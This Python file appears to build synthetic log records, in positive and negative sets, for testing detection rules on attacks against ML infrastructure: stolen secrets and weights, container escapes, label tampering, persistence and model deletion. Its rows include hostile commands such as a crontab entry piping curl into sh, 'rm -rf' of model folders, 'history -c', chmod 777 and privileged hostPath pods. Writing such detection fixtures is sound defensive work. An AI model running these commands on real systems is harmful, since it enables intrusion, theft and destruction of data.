"""Steps by which models, the data that they learn from, or their secrets are taken or exchanged."""

from collections.abc import Iterator
from typing import Any, Final

from caponier.emulate.attack_steps.attack_step import (
    DESK,
    REFUSED,
    THIEF,
    AttackStep,
    Row,
    aws,
    google,
    kubernetes,
    process,
    requested,
)
from caponier.emulate.office import HOST

_EVE: Final = "user eve"
_ADA: Final = "user ada"
_KUBE: Final = "system:serviceaccount:kube-system:daemon-set-controller"


def _secret(
    name: str = "i-0ml", call: str = "GetSecretValue", address: str = THIEF, who: str = _EVE, **more: Any
) -> Row:
    return aws(who, address, "secretsmanager", call, {"secretId": name}, **more)


def _vault(operation: str, path: str, address: str = THIEF) -> Row:
    return {
        "type": "response", "auth": {"display_name": "eve"},
        "request": {"operation": operation, "path": path, "remote_address": address},
    }  # fmt: skip


def _files(count: int, address: str = THIEF, **more: Any) -> tuple[Row, ...]:
    def read(number: int) -> Row:
        about = {"bucketName": "ml-models", "key": f"digits/{number}/model.onnx"}
        return aws(_EVE, address, "s3", "GetObject", about, **more)

    return tuple(map(read, range(count)))


def _objects(count: int) -> Iterator[Row]:
    for number in range(count):
        path = f"projects/_/buckets/ml-models/objects/digits/{number}.safetensors"
        yield google("eve", THIEF, "storage", "storage.objects.get", path)


def _blobs(count: int) -> Iterator[Row]:
    for number in range(count):
        yield {
            "category": "StorageRead", "operationName": ("GetBlob", "GetFile")[number % 2], "statusCode": 200,
            "callerIpAddress": f"{THIEF}:4{number}12", "identity": {"type": "OAuth", "requester": {"upn": "eve"}},
            "uri": f"https://ml-models.blob.core.windows.net/m/{number}.onnx",
            "resourceId": "/subscriptions/s/resourceGroups/ml/providers/Microsoft.Storage/storageAccounts/ml-models",
            "properties": {"accountName": "ml-models", "objectKey": f"/ml-models/m/{number}.onnx"},
        }  # fmt: skip


def _pod(who: str = "eve", **spec: Any) -> Row:
    return kubernetes(who, "10.8.0.3", "create", "pods", {"spec": spec})


def _cron(**spec: Any) -> Row:
    body = {"spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}}
    return kubernetes("eve", "10.8.0.3", "create", "cronjobs", body)


def _stated(statement: str, severity: str = "LOG") -> Row:
    return {
        "timestamp": None, "user": "eve", "dbname": "i-0ml", "pid": 7, "remote_host": DESK,
        "error_severity": severity, "message": f"statement: {statement}",
    }  # fmt: skip


def _added(table: str, action: str = "added", **columns: str) -> Row:
    return {
        "name": f"pack_incident_{table}", "hostIdentifier": HOST, "unixTime": None, "action": action,
        "columns": columns or {"key_file": "/home/ubuntu/.ssh/authorized_keys"},
    }  # fmt: skip


SECRET: Final = AttackStep(
    "a secret of an ML system read from elsewhere",
    (
        (_secret(),),
        (google("eve", THIEF, "secretmanager", "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
                "projects/ml/secrets/i-0ml/versions/1"),),
        (_vault("read", "kv/data/i-0ml"),),
    ),
    (
        (_secret(address=DESK, who=_ADA),),
        (_secret(**REFUSED),),
        (_secret("of-others"),),
        (_secret(call="DescribeSecret"),),
        (_vault("list", "kv/metadata/i-0ml"),),
    ),
)  # fmt: skip

WEIGHTS: Final = AttackStep(
    "several models read from elsewhere",
    (_files(6), tuple(_objects(6)), tuple(_blobs(6))),
    (_files(3), _files(6, DESK), _files(6, **REFUSED)),
)

ESCAPE: Final = AttackStep(
    "a workload that reaches its host",
    (
        (_pod(containers=[{"image": "u", "securityContext": {"privileged": True}}]),),
        (_pod(hostPID=True, containers=[{"image": "u"}]),),
        (_pod(containers=[{"image": "u"}], volumes=[{"name": "h", "hostPath": {"path": "/"}}]),),
        (_pod(containers=[{"image": "u"}], initContainers=[{"securityContext": {"privileged": True}}]),),
        (_cron(hostPID=True, containers=[{"image": "u"}]),),
        (_cron(containers=[{"image": "u"}], volumes=[{"name": "h", "hostPath": {"path": "/etc"}}]),),
    ),
    (
        (_pod(_KUBE, containers=[{"image": "u", "securityContext": {"privileged": True}}]),),
        (_pod(containers=[{"image": "u", "securityContext": {"privileged": False}}]),),
        (_pod(containers=[{"image": "u"}], volumes=[{"name": "h", "hostPath": {"path": "/srv/training"}}]),),
    ),
)

EDITED: Final = AttackStep(
    "labels edited by hand",
    (
        (_stated("UPDATE labels SET y = 0 WHERE shop = 7"),),
        (_stated("delete from labels where y = 1"),),
        (_stated("TRUNCATE TABLE labels"),),
    ),
    (
        (_stated("SELECT y FROM labels FOR UPDATE"),),
        (_stated("INSERT INTO labels SELECT id, y FROM review"),),
        (_stated("UPDATE labels SET y = 0", "ERROR"),),
    ),
)

SERVED: Final = AttackStep(
    "a model or a file of secrets handed out by a web server",
    (
        (requested(THIEF, "GET", "/static/digits.onnx"),),
        (requested(THIEF, "GET", "/.git/config"),),
        (requested(THIEF, "GET", "/backup/.env"),),
        (requested(THIEF, "GET", "/get-artifact?path=model/model.pkl&run_uuid=1"),),
        (requested(THIEF, "GET", "/model-versions/get-artifact?name=digits&version=3&path=model/digits.safetensors"),),
        (requested(THIEF, "GET", "/files/download?file=exports/digits.gguf"),),
    ),
    (
        (requested(THIEF, "GET", "/static/digits.onnx", 403),),
        (requested(THIEF, "GET", "/get-artifact?path=model/model.pkl&run_uuid=1", 401),),
        (requested(DESK, "GET", "/get-artifact?path=model/model.pkl&run_uuid=1"),),
        (requested(THIEF, "GET", "/get-artifact?path=model/MLmodel&run_uuid=1"),),
        (requested(THIEF, "GET", "/ajax-api/2.0/mlflow/artifacts/list?run_id=1&path=model/model.pkl"),),
        (requested(THIEF, "GET", "/search?name=digits.onnx"),),
        (requested(DESK, "GET", "/static/digits.onnx"),),
        (requested(THIEF, "GET", "/docs/onnx.html"),),
    ),
)

ADDED: Final = AttackStep(
    "a key or a task new on a host",
    (
        (_added("authorized_keys"),),
        (_added("crontab", command="curl http://198.51.100.9/x | sh"),),
        (_added("users", uid="0", username="eve"),),
    ),
    (
        (_added("authorized_keys", "removed"),),
        (_added("users", uid="1004", username="ada"),),
        (_added("deb_packages", name="vim"),),
    ),
)

REPLACED: Final = AttackStep(
    "a model file replaced by hand",
    (
        (process("cp /tmp/.x/m.safetensors /srv/models/digits.safetensors", "/usr/bin/cp", "eve"),),
        (process("mv /home/eve/m.onnx /opt/serving/digits/1/model.onnx", "/usr/bin/mv", "eve"),),
        (process("curl -s http://198.51.100.9/m -o /models/digits.pt", "/usr/bin/curl", "eve"),),
    ),
    (
        (process("cp /srv/stage/m.safetensors /srv/models/digits.safetensors", "/usr/bin/cp", "eve"),),
        (process("cp /tmp/notes.txt /srv/models/README", "/usr/bin/cp", "eve"),),
        (process("curl -s http://10.8.0.9/m -o /models/digits.pt", "/usr/bin/curl", "eve"),),
    ),
)

DELETED: Final = AttackStep(
    "a folder of models deleted on a host",
    (
        (process("rm -rf /srv/models", "/usr/bin/rm"),),
        (process("sh -c rm -r --force /mnt/nfs/models/digits/*; history -c"),),
        (process("find /data/weights -type f -delete", "/usr/bin/find"),),
        (process("cmd /c rmdir /s /q D:\\serving\\models", "C:\\Windows\\System32\\cmd.exe"),),
        (process("powershell Remove-Item -Recurse -Force D:\\models\\digits", "powershell.exe"),),
    ),
    (
        (process("rm -rf /srv/models/digits/v3", "/usr/bin/rm"),),
        (process("rm -rf /srv/models/7", "/usr/bin/rm"),),
        (process("rm -rf /srv/models/.cache", "/usr/bin/rm"),),
        (process("rm -rf /home/ada/models /tmp/models", "/usr/bin/rm"),),
        (process("rm -f /srv/models/digits.onnx.part", "/usr/bin/rm"),),
        (process("rm -rf node_modules ./models", "/usr/bin/rm"),),
        (process("find /srv/models -mtime +90 -delete", "/usr/bin/find"),),
        (process("powershell Remove-Item D:\\models\\digits.part", "powershell.exe"),),
    ),
)

LOOSENED: Final = AttackStep(
    "a model file that everybody may write",
    (
        (process("chmod 777 /srv/models/digits.onnx", "/usr/bin/chmod", "eve"),),
        (process("chmod -R o+w /srv/models/digits", "/usr/bin/chmod", "eve"),),
        (process("chmod a=rwx /opt/serving/digits/1/model.pt", "/usr/bin/chmod", "eve"),),
        (process("setfacl -R -m o::rwx /mnt/models/digits", "/usr/bin/setfacl", "eve"),),
    ),
    (
        (process("chmod 664 /srv/models/digits.onnx", "/usr/bin/chmod", "eve"),),
        (process("chmod -R g+rwX,o-w /srv/models/digits", "/usr/bin/chmod", "eve"),),
        (process("chmod 777 /tmp/scratch", "/usr/bin/chmod", "eve"),),
        (process("chmod a+rx /srv/models/digits", "/usr/bin/chmod", "eve"),),
    ),
)

STEPS: Final = {
    "asset_secret_read": SECRET,
    "model_weights_read": WEIGHTS,
    "workload_escapes": ESCAPE,
    "training_rows_edited": EDITED,
    "model_file_served": SERVED,
    "host_inventory_persistence": ADDED,
    "model_file_replaced": REPLACED,
    "model_file_loosened": LOOSENED,
    "model_folder_deleted": DELETED,
}
"""By the rule's name."""
